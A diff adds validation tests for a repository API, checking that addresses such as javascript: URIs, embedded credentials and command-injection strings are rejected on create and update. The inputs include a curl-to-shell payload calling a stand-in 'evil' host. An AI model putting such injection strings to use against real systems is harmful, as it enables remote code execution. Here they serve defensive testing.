@@ -60,6 +60,54 @@ describe("a new repository", () => {
     expect(blank.data).toEqual(["empty.publicationuri", "empty.name", "empty.serveraddress"]);
   });
 
+  test.each([
+    "javascript:alert(1)",
+    "data:text/html,x",
+    "ftp://example.org/x",
+    "http://x/$(curl evil|sh)",
+    "http://x/`id`",
+    "http://x/a b",
+    "http://x/\u0007",
+    "http://user:secret@x/",
+  ])("has no address such as %j, neither at first nor later", async (address) => {
+    const refused = ["invalid.publicationuri", "This is not a usable address of a repository server."];
+    const bad = { publicationUri: address, serverAddress: address };
+    const answer = await admin.post("/r/repositories", { name: `bad-${count}`, ...bad });
+    expect([answer.http, answer.data]).toEqual([422, refused]);
+    const { id } = await created();
+    const patch = await admin.patch(`/r/repositories/${id}`, [
+      replace("/publicationUri", address),
+      replace("/serverAddress", address),
+    ]);
+    expect([patch.http, patch.data]).toEqual([422, refused]);
+  });
+
+  test("has names and addresses of a bounded length", async () => {
+    const long = (length: number) => `http://x/${"a".repeat(length)}`;
+    const body = { name: "n".repeat(256), publicationUri: long(1000), serverAddress: long(1001) };
+    expect((await admin.post("/r/repositories", body)).data).toEqual([
+      "publicationuri.too.long",
+      "name.too.long",
+      "serveraddress.too.long",
+    ]);
+    const most = { name: "n".repeat(255), publicationUri: long(991), serverAddress: long(991) };
+    expect((await admin.post("/r/repositories", most)).http).toBe(201);
+  });
+
+  test("that has an address from before keeps it until somebody changes it", async () => {
+    const { id } = await created();
+    const old = "javascript:old";
+    await it.deps.db
+      .updateTable("repositories")
+      .set({ publication_uri: old, server_address: `${old}-server` })
+      .where("id", "=", id)
+      .execute();
+    const path = `/r/repositories/${id}`;
+    expect((await admin.patch(path, [replace("/redirectToSource", true)])).data).toMatchObject({ publicationUri: old });
+    expect((await admin.patch(path, [replace("/publicationUri", `${old}er`)])).http).toBe(422);
+    expect((await admin.patch(path, [replace("/publicationUri", "https://x.example.org/new")])).http).toBe(200);
+  });
+
   test("is not made of what is no repository", async () => {
     for (const body of [[], "name", null, described("x", { shoeSize: 43 }), described("x", { published: "perhaps" })])
       expect((await admin.post("/r/repositories", body)).messageCode).toBe("bad.request");
